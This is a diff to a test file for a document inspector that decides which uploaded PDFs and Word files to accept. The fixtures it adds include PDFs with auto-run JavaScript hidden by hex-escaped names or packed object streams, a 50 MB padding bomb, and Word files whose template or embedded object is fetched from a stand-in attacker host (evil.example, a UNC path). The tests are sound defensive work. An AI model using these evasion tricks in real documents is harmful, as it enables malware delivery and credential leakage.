@@ -5,7 +5,7 @@ from __future__ import annotations
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
-from proof_files import archive, attached, chunk, jpeg, pdf, png, with_member
+from proof_files import archive, attached, chunk, jpeg, packed, pdf, png, relation, with_member
 
 from tracker.evidence.files.child import inspected
 from tracker.evidence.files.proofs import inspect
@@ -23,6 +23,19 @@ TAKEN = {
     "a scan": ("扫描件.pdf", attached("notice.pdf"), "pdf"),
     "a page without anything on it": ("空白.pdf", pdf(), "pdf"),
     "a Word document": ("制度.docx", attached("notice.docx"), "docx"),
+    "a Word document made from a template of one's own": (
+        "制度.docx",
+        with_member(
+            attached("notice.docx"), "word/_rels/x.xml.rels", relation("attachedTemplate", r"file:///C:\t.dotm")
+        ),
+        "docx",
+    ),
+    "a Word document with a link in it": (
+        "制度.docx",
+        with_member(attached("notice.docx"), "word/_rels/x.xml.rels", relation("hyperlink", "http://www.gov.cn/")),
+        "docx",
+    ),
+    "a PDF with packed objects": ("空白.pdf", pdf(b"", packed(b"5 0 <</Type/Font>>")), "pdf"),
     "an old Word document": ("制度.doc", attached("notice.doc"), "doc"),
     "the same, as WPS calls it": ("制度.wps", attached("notice.doc"), "doc"),
     "a sheet": ("台账.xlsx", attached("table.xlsx"), "xlsx"),
@@ -89,6 +102,21 @@ REFUSED = {
         pdf(b"/OpenAction 4 0 R", b"<</S/JavaScript/JS(app.alert\\(1\\))>>"),
         "it holds a program",
     ),
+    "a PDF that runs, its names spelt otherwise": (
+        "a.pdf",
+        pdf(b"/Open#41ction 4 0 R", b"<</S/J#61va#53cript/J#53(app.alert\\(1\\))>>"),
+        "it holds a program",
+    ),
+    "a PDF that runs, its objects packed": (
+        "a.pdf",
+        pdf(b"/OpenAction 5 0 R", packed(b"5 0 <</S/JavaScript/JS(app.alert\\(1\\))>>")),
+        "it holds a program",
+    ),
+    "a PDF with more packed into it than can be looked through": (
+        "a.pdf",
+        pdf(b"", packed(b"5 0 " + b" " * 50_000_000)),
+        "more is packed into it",
+    ),
     "a PDF that starts something": ("a.pdf", pdf(b"/OpenAction 4 0 R", b"<</S/Launch/F(cmd.exe)>>"), "holds a program"),
     "a PDF with files": (
         "a.pdf",
@@ -111,6 +139,18 @@ REFUSED = {
         "a.docx",
         with_member(attached("notice.docx"), "word/embeddings/setup.exe"),
         "it holds a program, word/embeddings/setup.exe",
+    ),
+    "a document whose template lies elsewhere": (
+        "a.docx",
+        with_member(
+            attached("notice.docx"), "word/_rels/x.xml.rels", relation("attachedTemplate", "http://evil.example/x.dotm")
+        ),
+        "it fetches something from another address",
+    ),
+    "a document with an object on another machine": (
+        "a.docx",
+        with_member(attached("notice.docx"), "word/_rels/x.xml.rels", relation("oleObject", r"file:\\evil\x.html")),
+        "it fetches something from another address",
     ),
     "a document with a packed file": (
         "a.docx",
